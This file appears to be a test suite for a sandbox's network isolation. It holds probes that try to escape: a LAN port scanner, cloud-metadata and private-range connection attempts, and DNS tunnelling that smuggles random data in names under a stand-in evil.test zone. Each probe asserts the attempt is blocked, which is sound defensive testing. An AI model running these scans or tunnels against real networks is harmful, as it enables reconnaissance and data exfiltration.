"""Address-level network escapes (issue #3): hard-coded IPs, foreign resolvers, DNS
tunnelling, encoded private addresses, metadata, every special-purpose range, the
host's loopback and interfaces, a LAN port scan, the gateway itself, pings, QUIC,
UDP and fragments, and AAAA handling — in `--net public` and `--net allowlist`.

One sandbox run per mode (module-scoped fixtures) executes every probe of that mode:
a python script reads `probes.json` (the PROBES table below, for its mode), runs the
probes — setup first, then the bulk concurrently, then what depends on it — and
prints one JSON line each (tests/escape/netutil.py). A probe prints ESCAPED only if
its attack got through. Each probe is then its own test case: nothing escaped, the
outcome is one the design allows (a refusal that is static must come within
FAST_MS: nftables rejects it at SYN time), and the test internet's records agree
(the recorders named saw 0 packets, the servers logged nothing, the DNS server never
saw the tunnelled names). Must-keep-working probes (public mode's hard-coded IP and
QUIC, allowed UDP with fragments, v4-only and v6-only hosts) assert the job works.

UDP refusals are ICMP errors, which the gateway's kernel may rate-limit, so a single
UDP probe passes with any outcome but a reply; `udp_refusals_burst` (run before the
bulk) asserts on its own that a burst of refusals all arrive at once.

A third run takes the host netns's IPv6 default route away (a v4-only host): boxy
must then drop AAAA answers, so nothing waits on an IPv6 path.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pytest

from tests.conftest import User
from tests.escape import netutil
from tests.harness.fakenet import plan
from tests.harness.topology import Topology

FAST_MS = 200.0  # a static denial (nftables at SYN time, an ICMP error) answers within this
CURL_MAX_S = 2.0  # Happy Eyeballs must not stall
SENTINEL = plan.SENTINEL_V4  # what the recorder resolvers answer: proof they were asked
WWW4, WWW6 = "11.0.0.10", "2a0b:4000::10"
OTHER4, OTHER6 = "11.0.0.60", "2a0b:4000::60"
UDP4, UDP6 = "11.0.0.50", "2a0b:4000::50"
EVIL4, EVIL6 = "11.0.0.66", "2a0b:4000::66"
GW4, GW6 = "10.0.2.2", "fd00::2"
TCP_LISTENER, UDP_LISTENER = 15001, 15002  # boxyd.net.ruleset.TCP_PORT / UDP_PORT
LO_PORTS = plan.RECORDER_BY_NAME["host_loopback"].tcp
IF_PORTS = plan.RECORDER_BY_NAME["host_ifaddr"].tcp

ALLOWLIST_FLAGS = (
    "--net",
    "allowlist",
    "--allow-host",
    "www.boxy.test",
    "--allow-host",
    "udp.boxy.test:9999/udp",
    "--allow-host",
    "v4only.boxy.test",
    "--allow-host",
    "aaaaonly.boxy.test",
)

# Outcomes (netutil): a TCP connect that fails outright, a UDP send that gets an error.
NO_CONNECT = frozenset({"refused", "denied", "unreachable"})
UDP_ERROR = frozenset({"refused", "unreachable", "denied"})
NO_REPLY = UDP_ERROR | {"timeout"}  # a silent drop is still no escape
# A TCP attempt whose handshake may complete (TPROXY) before boxyd resets it.
NOT_THROUGH = NO_CONNECT | {"reset", "closed"}

Check = Callable[[dict[str, Any], netutil.NetRun], None]  # more assertions on a record


@dataclass(frozen=True)
class Probe:
    """One attempt, run in the sandbox and checked here.

    kind/args: the sandbox function and its arguments (see SCRIPT). expect: outcomes
    the design allows. escape: outcomes that mean the attack got through (the
    sandbox prints ESCAPED); escape_addrs: DNS answers that mean the same. fast: the
    outcome must be known within FAST_MS. quiet/ranges: recorders and special-purpose
    ranges that must have seen 0 packets during the run. check: more assertions on
    the record and the run. phase 0 runs first (DNS bindings), 1 concurrently, 2 last.
    """

    name: str
    kind: str
    args: dict[str, Any]
    expect: frozenset[str]
    escape: frozenset[str] = frozenset()
    escape_addrs: tuple[str, ...] = ()
    fast: bool = False
    quiet: tuple[str, ...] = ()
    ranges: tuple[str, ...] = ()
    check: Check | None = field(default=None, compare=False)
    phase: int = 1

    def spec(self) -> dict[str, Any]:
        return {
            "name": self.name,
            "kind": self.kind,
            "args": self.args,
            "escape": sorted(self.escape),
            "escape_addrs": list(self.escape_addrs),
            "phase": self.phase,
        }


# --- checks on a record and its run ------------------------------------------------------


def addrs_are(*want: str) -> Check:
    def check(rec: dict[str, Any], run: netutil.NetRun) -> None:
        assert sorted(rec.get("addrs", [])) == sorted(want), (
            f"answer {rec.get('addrs')} is not boxy's answer {list(want)}"
        )

    return check


def body_names(server: str) -> Check:
    def check(rec: dict[str, Any], run: netutil.NetRun) -> None:
        assert f'"server": "{server}"' in rec.get("data", ""), f"not {server}'s answer"

    return check


def echo_of(size: int) -> Check:
    def check(rec: dict[str, Any], run: netutil.NetRun) -> None:
        assert rec.get("size") == size and rec.get("echo_ok"), (
            f"the echo is not the {size} bytes sent"
        )

    return check


def server_silent(
    *, server: str | None = None, port: int | None = None, kind: str | None = None
) -> Check:
    """No public server logged an event matching SERVER/PORT/KIND during the run."""

    def check(rec: dict[str, Any], run: netutil.NetRun) -> None:
        hits = [
            e
            for e in run.server_events
            if (server is None or e.get("server") == server)
            and (port is None or e.get("port") == port)
            and (kind is None or e.get("kind") == kind)
        ]
        assert not hits, f"the server saw it: {hits[:3]}"

    return check


def server_saw(*, server: str, port: int, kind: str) -> Check:
    def check(rec: dict[str, Any], run: netutil.NetRun) -> None:
        assert any(
            e.get("server") == server and e.get("port") == port and e.get("kind") == kind
            for e in run.server_events
        ), f"{server} logged no {kind} on port {port}"

    return check


def no_evil_queries(rec: dict[str, Any], run: netutil.NetRun) -> None:
    evil = [q for q in run.dns_queries if str(q.get("qname", "")).endswith(plan.EVIL_ZONE)]
    assert not evil, f"tunnelled names reached the DNS server: {evil[:3]}"
    # positive control: the query log does record what boxy sends upstream
    assert any(q.get("qname") == "www.boxy.test." for q in run.dns_queries), (
        f"the DNS server's log has no www.boxy.test.: {run.dns_queries[:5]}"
    )


def curl_fast(rec: dict[str, Any], run: netutil.NetRun) -> None:
    assert rec.get("http") == "200", "not HTTP 200"
    assert rec["seconds"] < CURL_MAX_S, f"took {rec['seconds']} s (Happy Eyeballs stalled?)"


def fails_fast(rec: dict[str, Any], run: netutil.NetRun) -> None:
    assert rec["seconds"] < CURL_MAX_S, f"took {rec['seconds']} s to fail"


def portscan_fast(rec: dict[str, Any], run: netutil.NetRun) -> None:
    assert rec.get("ports") == 1024, f"scanned {rec.get('ports')} ports, not 1024"
    assert rec.get("max_ms", 1e9) < FAST_MS, f"slowest refusal {rec.get('max_ms')} ms"
    assert rec.get("seconds", 1e9) < 5, f"the scan took {rec.get('seconds')} s"


def burst_fast(rec: dict[str, Any], run: netutil.NetRun) -> None:
    slow = {
        a: o for a, o in rec.get("results", {}).items() if o[0] not in UDP_ERROR or o[1] >= FAST_MS
    }
    assert not slow, f"refusals that did not come at once: {slow}"


def link_local_refused(rec: dict[str, Any], run: netutil.NetRun) -> None:
    """If the address exists on the link (neighbour discovery answered), the gateway
    must have refused at once, as for its other addresses."""
    if rec.get("resolved"):
        assert rec["outcome"] in NO_CONNECT | UDP_ERROR and rec["ms"] < FAST_MS, (
            "the gateway's link-local address answered but was not refused at once"
        )


def all_chain(*checks: Check) -> Check:
    def check(rec: dict[str, Any], run: netutil.NetRun) -> None:
        for c in checks:
            c(rec, run)

    return check


# --- the probe tables --------------------------------------------------------------------


def _tcp(
    name: str,
    addr: str,
    port: int,
    *,
    expect: frozenset[str] = NO_CONNECT,
    fast: bool = True,
    quiet: tuple[str, ...] = (),
    ranges: tuple[str, ...] = (),
    scope: str = "",
    check: Check | None = None,
    timeout: float = 1.0,
) -> Probe:
    args: dict[str, Any] = {"addr": addr, "port": port, "timeout": timeout}
    if scope:
        args["scope"] = scope
    return Probe(
        name,
        "tcp",
        args,
        expect,
        frozenset({"answered"}),
        fast=fast,
        quiet=quiet,
        ranges=ranges,
        check=check,
    )


def _udp(
    name: str,
    addr: str,
    port: int,
    *,
    expect: frozenset[str] = NO_REPLY,
    fast: bool = False,
    quiet: tuple[str, ...] = (),
    ranges: tuple[str, ...] = (),
    size: int = 0,
    scope: str = "",
    check: Check | None = None,
    timeout: float = 0.5,
    phase: int = 1,
) -> Probe:
    """A UDP attempt. By default any outcome but a reply passes: the gateway kernel
    rate-limits its ICMP errors per peer, so which of many concurrent refusals arrive
    in time is not deterministic; `udp_refusals_burst` checks that property alone."""
    args: dict[str, Any] = {"addr": addr, "port": port, "timeout": timeout, "size": size}
    if scope:
        args["scope"] = scope
    return Probe(
        name,
        "udp",
        args,
        expect,
        frozenset({"reply"}),
        fast=fast,
        quiet=quiet,
        ranges=ranges,
        check=check,
        phase=phase,
    )


def _works(p: Probe, ok: str) -> Probe:
    """A must-keep-working probe: success is the only acceptable outcome, not an escape;
    a generous timeout, since a busy machine must not turn a success into a failure."""
    args = {**p.args, "timeout": 3.0}
    return Probe(
        p.name, p.kind, args, frozenset({ok}), frozenset(), fast=False, check=p.check, phase=p.phase
    )


def _dns(
    name: str,
    server: str,
    qname: str,
    qtype: str = "A",
    *,
    tcp: bool = False,
    expect: frozenset[str] = frozenset({"answer"}),
    check: Check | None = None,
    quiet: tuple[str, ...] = (),
    escape_addrs: tuple[str, ...] = (SENTINEL,),
    phase: int = 1,
) -> Probe:
    return Probe(
        name,
        "dns",
        {"server": server, "qname": qname, "qtype": qtype, "tcp": tcp},
        expect,
        escape_addrs=escape_addrs,
        quiet=quiet,
        check=check,
        phase=phase,
    )


# (range as counted by the topology, a probe address in it, recorder at that address)
RANGE_PROBES: tuple[tuple[str, str, str | None], ...] = (
    ("0.0.0.0/8", "0.1.2.3", None),
    ("10.0.0.0/8", "10.1.2.3", None),
    ("100.64.0.0/10", "100.64.1.1", "cgnat"),
    ("100.64.0.0/10", "100.101.102.103", "tailnet"),
    ("127.0.0.0/8", "127.1.2.3", None),
    ("169.254.0.0/16", "169.254.1.1", None),
    ("172.16.0.0/12", "172.16.1.1", None),
    ("192.0.0.0/24", "192.0.0.170", None),
    ("192.0.2.0/24", "192.0.2.10", "doc"),
    ("192.88.99.0/24", "192.88.99.1", None),
    ("192.168.0.0/16", "192.168.1.10", "lan"),
    ("198.18.0.0/15", "198.18.0.10", "bench"),
    ("198.51.100.0/24", "198.51.100.10", "doc"),
    ("203.0.113.0/24", "203.0.113.10", "doc"),
    ("224.0.0.0/4", "224.0.0.251", None),
    ("224.0.0.0/4", "239.1.2.3", None),
    ("240.0.0.0/4", "240.1.2.3", None),
    ("::/128", "::", None),
    ("::1/128", "::1", None),
    ("::ffff:0:0/96", "::ffff:10.1.2.3", None),
    ("64:ff9b::/96", "64:ff9b::a01:203", None),
    ("64:ff9b:1::/48", "64:ff9b:1::a01:203", None),
    ("100::/64", "100::1", None),
    ("2001::/23", "2001:2::1", None),
    ("2001::/23", "2001:20::1", None),
    ("2001:db8::/32", "2001:db8::10", "doc"),
    ("2002::/16", "2002:a01:203::1", None),
    ("3fff::/20", "3fff::1", None),
    ("5f00::/16", "5f00::1", None),
    ("fc00::/7", "fd12::1", "ula"),
    ("fc00::/7", "fd7a:115c:a1e0::1", "tailnet"),
    ("fec0::/10", "fec0::1", None),
    ("ff00::/8", "ff0e::1", None),
)
# Statically denied UDP destinations, sent one datagram each at once: every one must
# get its ICMP error at once (docs/design.md: a refusal is never a silent drop).
BURST_V4 = (
    "10.1.2.3",
    "172.16.1.1",
    plan.LAN_HOST,
    plan.METADATA_V4,
    plan.CGNAT_HOST,
    "198.18.0.10",
    "192.0.2.10",
    "203.0.113.10",
    GW4,
    "240.1.2.3",
)
BURST_V6 = (
    plan.ULA_HOST,
    plan.METADATA_V6,
    plan.NAT64_LAN,
    plan.SIXTOFOUR_LAN,
    "2001:db8::10",
    "3fff::1",
    "fec0::1",
    GW6,
    "5f00::1",
    "100::1",
)


def _slug(addr: str) -> str:
    return re.sub(r"[^0-9a-zA-Z]+", "_", addr).strip("_") or "any"


def _range_probes() -> list[Probe]:
    out = []
    for cidr, addr, rec in RANGE_PROBES:
        quiet = (rec,) if rec else ()
        # The sandbox's own loopback answers 127/8, ::1 and :: itself (a refusal); the
        # host's loopback recorder must stay silent all the same.
        if cidr in ("127.0.0.0/8", "::1/128", "::/128"):
            quiet = ("host_loopback",)
        out.append(_tcp(f"range_{_slug(addr)}_tcp", addr, 80, quiet=quiet, ranges=(cidr,)))
        out.append(_udp(f"range_{_slug(addr)}_udp", addr, 9999, quiet=quiet, ranges=(cidr,)))
    return out


def _common() -> list[Probe]:
    """Probes whose expectations are the same in both modes."""
    dns_quiet = ("public_resolver", "lan_resolver", "router")
    probes = [
        # Phase 0: DNS answers, which create the bindings later probes rely on.
        _dns("resolve_www", GW4, "www.boxy.test", check=addrs_are(WWW4), phase=0),
        _dns("resolve_udp", GW4, "udp.boxy.test", check=addrs_are(UDP4), phase=0),
        _dns("resolve_udp_aaaa", GW4, "udp.boxy.test", "AAAA", check=addrs_are(UDP6), phase=0),
        # DNS to a hard-coded resolver: boxy answers (its answer, not the sentinel), and
        # the resolver never sees a packet.
        _dns("dns_8888_udp", "8.8.8.8", "www.boxy.test", check=addrs_are(WWW4), quiet=dns_quiet),
        _dns(
            "dns_8888_tcp",
            "8.8.8.8",
            "www.boxy.test",
            tcp=True,
            check=addrs_are(WWW4),
            quiet=dns_quiet,
        ),
        _dns(
            "dns_8888_v6_udp",
            "2001:4860:4860::8888",
            "www.boxy.test",
            check=addrs_are(WWW4),
            quiet=dns_quiet,
        ),
        _dns(
            "dns_8888_v6_tcp",
            "2001:4860:4860::8888",
            "www.boxy.test",
            tcp=True,
            check=addrs_are(WWW4),
            quiet=dns_quiet,
        ),
        _dns(
            "dns_lan_resolver_udp",
            plan.LAN_RESOLVER,
            "www.boxy.test",
            check=addrs_are(WWW4),
            quiet=dns_quiet,
        ),
        _dns(
            "dns_lan_resolver_tcp",
            plan.LAN_RESOLVER,
            "www.boxy.test",
            tcp=True,
            check=addrs_are(WWW4),
            quiet=dns_quiet,
        ),
        _dns(
            "dns_router_udp",
            plan.ROUTER_V4,
            "www.boxy.test",
            check=addrs_are(WWW4),
            quiet=dns_quiet,
        ),
        _dns(
            "dns_metadata_udp",
            plan.METADATA_V4,
            "www.boxy.test",
            check=addrs_are(WWW4),
            quiet=("metadata",),
        ),
        # NAT64, 6to4, v4-mapped, v4-compatible and Teredo forms of 192.168.1.10.
        _tcp("nat64_lan_tcp", plan.NAT64_LAN, 80, quiet=("nat64", "lan"), ranges=("64:ff9b::/96",)),
        _udp(
            "nat64_lan_udp", plan.NAT64_LAN, 9999, quiet=("nat64", "lan"), ranges=("64:ff9b::/96",)
        ),
        _tcp(
            "sixtofour_lan_tcp",
            plan.SIXTOFOUR_LAN,
            80,
            quiet=("sixtofour", "lan"),
            ranges=("2002::/16",),
        ),
        _udp(
            "sixtofour_lan_udp",
            plan.SIXTOFOUR_LAN,
            9999,
            quiet=("sixtofour", "lan"),
            ranges=("2002::/16",),
        ),
        _tcp("mapped_lan_tcp", plan.MAPPED_LAN, 80, quiet=("lan",), ranges=("192.168.0.0/16",)),
        _udp("mapped_lan_udp", plan.MAPPED_LAN, 9999, quiet=("lan",), ranges=("192.168.0.0/16",)),
        _tcp("compat_lan_tcp", "::c0a8:10a", 80, quiet=("lan",), ranges=("192.168.0.0/16",)),
        # The Teredo client is the bit-inverted tail: no prefix set matches it, so boxyd
        # decides after the handshake (a reset) — still at once.
        _tcp(
            "teredo_lan_tcp",
            plan.TEREDO_LAN,
            80,
            expect=NOT_THROUGH - {"closed"},
            quiet=("teredo", "lan"),
            ranges=("2001::/23",),
        ),
        _udp(
            "teredo_lan_udp",
            plan.TEREDO_LAN,
            9999,
            expect=NO_REPLY,
            fast=False,
            quiet=("teredo", "lan"),
            ranges=("2001::/23",),
            timeout=0.5,
        ),
        # Cloud metadata.
        _tcp("metadata_tcp80", plan.METADATA_V4, 80, quiet=("metadata",)),
        _udp("metadata_udp", plan.METADATA_V4, 123, quiet=("metadata",)),
        _tcp("metadata_v6_tcp80", plan.METADATA_V6, 80, quiet=("metadata",)),
        _udp("metadata_v6_udp", plan.METADATA_V6, 123, quiet=("metadata",)),
        *_range_probes(),
        _udp("broadcast_udp", "255.255.255.255", 9999, expect=NO_REPLY, fast=False, timeout=0.5),
        # The host's loopback services: inside the sandbox these addresses are its own lo.
        *[_tcp(f"host_lo_tcp{p}", "127.0.0.1", p, quiet=("host_loopback",)) for p in LO_PORTS],
        *[_tcp(f"host_lo6_tcp{p}", "::1", p, quiet=("host_loopback",)) for p in LO_PORTS],
        _udp("host_lo_udp9999", "127.0.0.1", 9999, quiet=("host_loopback",)),
        _udp("host_lo6_udp9999", "::1", 9999, quiet=("host_loopback",)),
        _dns(
            "host_resolver_udp",
            "127.0.0.53",
            "www.boxy.test",
            expect=UDP_ERROR,
            quiet=("host_resolver",),
        ),
        # The host's other interfaces, and its router into the (fake) internet.
        *[_tcp(f"host_if_tcp{p}", plan.HOST_V4, p, quiet=("host_ifaddr",)) for p in IF_PORTS],
        *[_tcp(f"host_if6_tcp{p}", plan.HOST_V6, p, quiet=("host_ifaddr",)) for p in IF_PORTS],
        _udp("host_if_udp9999", plan.HOST_V4, 9999, quiet=("host_ifaddr",)),
        _udp("host_if6_udp9999", plan.HOST_V6, 9999, quiet=("host_ifaddr",)),
        _tcp("router_tcp80", plan.ROUTER_V4, 80, quiet=("router",)),
        _tcp("router6_tcp80", plan.ROUTER_V6, 80, quiet=("router",)),
        # A LAN port scan.
        Probe(
            "lan_portscan",
            "portscan",
            {"addr": plan.LAN_HOST, "lo": 1, "hi": 1024},
            frozenset({"all-refused"}),
            frozenset({"open"}),
            quiet=("lan",),
            ranges=("192.168.0.0/16",),
            check=portscan_fast,
        ),
        _udp("lan_udp9999", plan.LAN_HOST, 9999, quiet=("lan",)),
        # The gateway itself: its addresses and listener ports, dialled directly.
        *[_tcp(f"gw_tcp{p}", GW4, p) for p in (TCP_LISTENER, UDP_LISTENER, 80, 443)],
        *[_tcp(f"gw6_tcp{p}", GW6, p) for p in (TCP_LISTENER, UDP_LISTENER, 80, 443)],
        _udp("gw_udp15002", GW4, UDP_LISTENER),
        _udp("gw_udp15001", GW4, TCP_LISTENER),
        _udp("gw6_udp15002", GW6, UDP_LISTENER),
        _tcp(
            "gw_ll_fe80_1_tcp443",
            "fe80::1",
            443,
            scope="eth0",
            expect=NO_CONNECT | {"timeout"},
            fast=False,
            ranges=("fe80::/10",),
        ),
        Probe(
            "gw_ll_eui64_tcp443",
            "gw_ll",
            {"proto": "tcp", "port": 443},
            NO_CONNECT | {"timeout"},
            frozenset({"answered"}),
            ranges=("fe80::/10",),
            check=link_local_refused,
        ),
        Probe(
            "gw_ll_eui64_tcp15001",
            "gw_ll",
            {"proto": "tcp", "port": TCP_LISTENER},
            NO_CONNECT | {"timeout"},
            frozenset({"answered"}),
            ranges=("fe80::/10",),
            check=link_local_refused,
        ),
        Probe(
            "gw_ll_eui64_udp15002",
            "gw_ll",
            {"proto": "udp", "port": UDP_LISTENER},
            NO_REPLY,
            frozenset({"reply"}),
            ranges=("fe80::/10",),
            check=link_local_refused,
        ),
        # (A gateway with no link-local address at all would be "none-found": fine.)
        Probe(
            "gw_ll_neighbours",
            "gw_neigh",
            {"ports": [443, TCP_LISTENER]},
            frozenset({"all-refused", "none-found"}),
            frozenset({"open"}),
            ranges=("fe80::/10",),
            phase=2,
        ),
        # Ping sockets and raw ICMP: refused at socket() (seccomp), and no echo reply.
        *[
            Probe(
                f"ping_{k}{v}",
                "ping",
                {"family": v, "raw": k == "raw", "addr": WWW4 if v == 4 else WWW6},
                frozenset({"denied", "no-reply"}),
                frozenset({"reply"}),
            )
            for k in ("dgram", "raw")
            for v in (4, 6)
        ],
        *[
            Probe(
                f"ping_{k}4_gateway",
                "ping",
                {"family": 4, "raw": k == "raw", "addr": GW4},
                frozenset({"denied", "no-reply"}),
                frozenset({"reply"}),
            )
            for k in ("dgram", "raw")
        ],
        # Fragmented UDP to a denied address.
        _udp("frag_lan_udp", plan.LAN_HOST, 9999, size=3000, quiet=("lan",)),
        # A v4-only server: no AAAA, connects at once; a v6-only one works on v6.
        _dns("v4only_aaaa_empty", GW4, "v4only.boxy.test", "AAAA", check=addrs_are()),
        _dns("v4only_a", GW4, "v4only.boxy.test", check=addrs_are("11.0.0.11")),
        Probe(
            "v4only_curl",
            "curl",
            {"url": "https://v4only.boxy.test/"},
            frozenset({"ok"}),
            check=curl_fast,
        ),
        Probe(
            "v4only_getaddrinfo",
            "gai",
            {"name": "v4only.boxy.test"},
            frozenset({"resolved"}),
            check=addrs_are("11.0.0.11"),
        ),
        Probe(
            "aaaaonly_curl",
            "curl",
            {"url": "https://aaaaonly.boxy.test/"},
            frozenset({"ok"}),
            check=curl_fast,
        ),
    ]
    return probes


def _burst() -> Probe:
    """Last of phase 0, so the bulk's refusals cannot use up what it measures."""
    return Probe(
        "udp_refusals_burst",
        "udp_burst",
        {"addrs": [*BURST_V4, *BURST_V6], "port": 9999},
        frozenset({"all-refused"}),
        frozenset({"reply"}),
        check=burst_fast,
        phase=0,
    )


def _public() -> list[Probe]:
    return [
        *_common(),
        # Public mode: a hard-coded public IP, QUIC and any UDP must work.
        _works(_tcp("hardcoded_v4_works", OTHER4, 80, check=body_names("other")), "answered"),
        _works(_tcp("hardcoded_v6_works", OTHER6, 80, check=body_names("other")), "answered"),
        # A public address with nothing on the port: boxyd's dial is refused upstream,
        # and the sandbox must learn it at once (a reset), not wait for a timeout.
        _tcp(
            "closed_port_fails_fast", OTHER4, 9, expect=frozenset({"reset", "refused"}), timeout=2.0
        ),
        _works(_udp("quic_works", WWW4, 443, check=echo_of(10)), "reply"),
        _works(_udp("quic6_works", WWW6, 443, check=echo_of(10)), "reply"),
        _works(_udp("udp_hardcoded_works", OTHER4, 9999, check=echo_of(10)), "reply"),
        _works(_udp("frag_udp_works", UDP4, 9999, size=3000, check=echo_of(3000)), "reply"),
        _works(_udp("frag_udp6_works", UDP6, 9999, size=3000, check=echo_of(3000)), "reply"),
        _burst(),
    ]


def _allowlist() -> list[Probe]:
    evil = (SENTINEL, EVIL4, EVIL6)
    tunnel_ok = frozenset({"blocked"})
    refused_name = frozenset({"nxdomain", "rcode:REFUSED"})
    return [
        *_common(),
        # A hard-coded public IP with no binding: reset at accept (boxyd), at once.
        _tcp(
            "hardcoded_v4",
            OTHER4,
            80,
            expect=NOT_THROUGH - {"closed"},
            check=server_silent(server="other"),
        ),
        _tcp(
            "hardcoded_v6",
            OTHER6,
            80,
            expect=NOT_THROUGH - {"closed"},
            check=server_silent(server="other"),
        ),
        _tcp(
            "hardcoded_v4_tls",
            OTHER4,
            443,
            expect=NOT_THROUGH - {"closed"},
            check=server_silent(server="other"),
        ),
        # A name not allowed, asked of a hard-coded resolver: boxy's NXDOMAIN.
        _dns(
            "dns_8888_evil",
            "8.8.8.8",
            "leak.evil.test",
            expect=refused_name,
            escape_addrs=evil,
            quiet=("public_resolver",),
        ),
        _dns(
            "dns_lan_resolver_evil_tcp",
            plan.LAN_RESOLVER,
            "leak2.evil.test",
            "TXT",
            tcp=True,
            expect=refused_name,
            escape_addrs=evil,
            quiet=("lan_resolver",),
        ),
        # DNS tunnelling: data in names under evil.test, many queries, several types.
        Probe(
            "tunnel_udp",
            "tunnel",
            {"server": GW4, "count": 30, "qtypes": ["A", "TXT", "AAAA"]},
            tunnel_ok,
            frozenset({"leaked"}),
            check=no_evil_queries,
        ),
        Probe(
            "tunnel_tcp",
            "tunnel",
            {"server": GW4, "count": 10, "qtypes": ["TXT", "A"], "tcp": True},
            tunnel_ok,
            frozenset({"leaked"}),
            check=no_evil_queries,
        ),
        Probe(
            "tunnel_8888",
            "tunnel",
            {"server": "8.8.8.8", "count": 10, "qtypes": ["AAAA", "TXT"]},
            tunnel_ok,
            frozenset({"leaked"}),
            quiet=("public_resolver",),
            check=no_evil_queries,
        ),
        Probe(
            "tunnel_libc",
            "tunnel_gai",
            {"count": 5},
            tunnel_ok,
            frozenset({"leaked"}),
            check=no_evil_queries,
        ),
        # QUIC to an allowed, bound host: refused outright (port unreachable).
        # (Phase 0: before the bulk's refusals spend the gateway's ICMP allowance.)
        _udp(
            "quic_www",
            WWW4,
            443,
            expect=frozenset({"refused"}),
            fast=True,
            phase=0,
            check=server_silent(port=443, kind="udp"),
        ),
        _udp(
            "quic_www_v6",
            WWW6,
            443,
            expect=frozenset({"refused"}),
            fast=True,
            phase=0,
            check=server_silent(port=443, kind="udp"),
        ),
        # UDP to an address no name resolved to, and to a bound one on a port not allowed.
        _udp(
            "udp_unbound",
            OTHER4,
            9999,
            expect=NO_REPLY,
            fast=False,
            timeout=0.5,
            check=server_silent(server="other", kind="udp"),
        ),
        _udp(
            "udp_port_not_allowed",
            UDP4,
            9998,
            expect=frozenset({"refused"}),
            fast=True,
            phase=0,
            check=server_silent(port=9998, kind="udp"),
        ),
        _udp(
            "frag_udp_unbound",
            OTHER4,
            9999,
            size=3000,
            expect=NO_REPLY,
            fast=False,
            timeout=0.5,
            check=server_silent(server="other", kind="udp"),
        ),
        # What is allowed works, replies reaching the connected socket; fragments too.
        _works(
            _udp(
                "udp_allowed_works",
                UDP4,
                9999,
                check=all_chain(echo_of(10), server_saw(server="udp", port=9999, kind="udp")),
            ),
            "reply",
        ),
        _works(_udp("udp6_allowed_works", UDP6, 9999, check=echo_of(10)), "reply"),
        _works(_udp("frag_udp_works", UDP4, 9999, size=3000, check=echo_of(3000)), "reply"),
        _works(_udp("frag_udp6_works", UDP6, 9999, size=3000, check=echo_of(3000)), "reply"),
        _burst(),
    ]


def _v4_host() -> list[Probe]:
    """With no IPv6 route on the host, boxy drops AAAA answers."""
    return [
        _dns(
            "aaaaonly_aaaa_dropped",
            GW4,
            "aaaaonly.boxy.test",
            "AAAA",
            expect=frozenset({"answer", "nxdomain"}),
            check=addrs_are(),
        ),
        _dns("www_aaaa_dropped", GW4, "www.boxy.test", "AAAA", check=addrs_are()),
        _dns("www_a_kept", GW4, "www.boxy.test", check=addrs_are(WWW4)),
        Probe(
            "www_getaddrinfo_v4",
            "gai",
            {"name": "www.boxy.test"},
            frozenset({"resolved"}),
            check=addrs_are(WWW4),
        ),
        Probe(
            "www_curl",
            "curl",
            {"url": "https://www.boxy.test/"},
            frozenset({"ok"}),
            check=curl_fast,
        ),
        Probe(
            "v4only_curl",
            "curl",
            {"url": "https://v4only.boxy.test/"},
            frozenset({"ok"}),
            check=curl_fast,
        ),
        Probe(
            "aaaaonly_curl_fails_fast",
            "curl",
            {"url": "https://aaaaonly.boxy.test/"},
            frozenset({"failed"}),
            check=fails_fast,
        ),
    ]


PROBES: dict[str, list[Probe]] = {
    "public": _public(),
    "allowlist": _allowlist(),
    "v4host": _v4_host(),
}


# --- the sandbox side ------------------------------------------------------------------

SCRIPT = r'''
import concurrent.futures

EVIL_ZONE = "evil.test"

def k_tcp(addr, port, timeout=1.0, scope=""):
    return tcp(addr, port, timeout=timeout, scope=scope)

def k_udp(addr, port, timeout=1.0, size=0, scope=""):
    payload = b"boxy-probe" if not size else bytes((i * 7) & 0xFF for i in range(size))
    return udp(addr, port, payload=payload, timeout=timeout, scope=scope)

def k_dns(server, qname, qtype="A", tcp=False):
    return dns(server, qname, qtype, tcp=tcp)

def k_gai(name):
    t0 = time.monotonic()
    try:
        infos = socket.getaddrinfo(name, 443, 0, socket.SOCK_STREAM)
    except OSError as e:
        return {"outcome": "failed", "errno": ename(e), "ms": _ms(t0)}
    return {"outcome": "resolved", "errno": None, "ms": _ms(t0),
            "addrs": sorted({i[4][0] for i in infos})}

def k_curl(url, max_time=3):
    t0 = time.monotonic()
    p = subprocess.run(["curl", "-sS", "--cacert", "ca.pem", "-o", "/dev/null", "--max-time",
                        str(max_time), "-w", "%{http_code} %{remote_ip}", url],
                       capture_output=True, text=True)
    secs = round(time.monotonic() - t0, 3)
    code, _, ip = p.stdout.strip().partition(" ")
    ok = p.returncode == 0 and code == "200"
    return {"outcome": "ok" if ok else "failed", "errno": None, "ms": secs * 1000, "seconds": secs,
            "http": code, "remote_ip": ip, "rc": p.returncode, "stderr": p.stderr[-300:]}

def k_portscan(addr, lo, hi, batch=128, timeout=1.0):
    t0 = time.monotonic()
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    tally, opened, max_ms = {}, [], 0.0
    ports = list(range(lo, hi + 1))
    def note(out, start):
        nonlocal max_ms
        tally[out] = tally.get(out, 0) + 1
        max_ms = max(max_ms, (time.monotonic() - start) * 1000)
    def settle(s, port, err, start):
        if err:
            note(_SOCK_OUTCOME.get(errno.errorcode.get(err, ""), "error"), start)
        elif port == 53:
            note("dns", start)  # boxy's own resolver answers port 53 on every address
        else:
            opened.append(port)
            note("open", start)
        s.close()
    for i in range(0, len(ports), batch):
        pending = {}
        for port in ports[i:i + batch]:
            s = socket.socket(fam, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
            start = time.monotonic()
            err = s.connect_ex((addr, port))
            if err == errno.EINPROGRESS:
                pending[s] = (port, start)
                continue
            settle(s, port, err, start)
        deadline = time.monotonic() + timeout
        while pending and time.monotonic() < deadline:
            left = max(0.0, deadline - time.monotonic())
            _, ready, _ = select.select([], list(pending), [], left)
            for s in ready:
                port, start = pending.pop(s)
                settle(s, port, s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR), start)
        for s, (port, start) in pending.items():
            note("timeout", start)
            s.close()
    if opened:
        out = "open"
    elif set(tally) <= {"refused", "denied", "dns"}:
        out = "all-refused"
    else:
        out = "mixed"
    return {"outcome": out, "errno": None, "ms": round(max_ms, 1), "max_ms": round(max_ms, 1),
            "seconds": round(time.monotonic() - t0, 3), "ports": len(ports), "tally": tally,
            "open": opened[:20]}

def k_tunnel(server, count, qtypes, tcp=False):
    tally, leaked = {}, []
    for i in range(count):
        name = f"{os.urandom(12).hex()}.{i}.x.{EVIL_ZONE}"
        r = dns(server, name, qtypes[i % len(qtypes)], tcp=tcp, timeout=1.0)
        tally[r["outcome"]] = tally.get(r["outcome"], 0) + 1
        if r.get("addrs") or r.get("texts"):
            leaked.append(name)
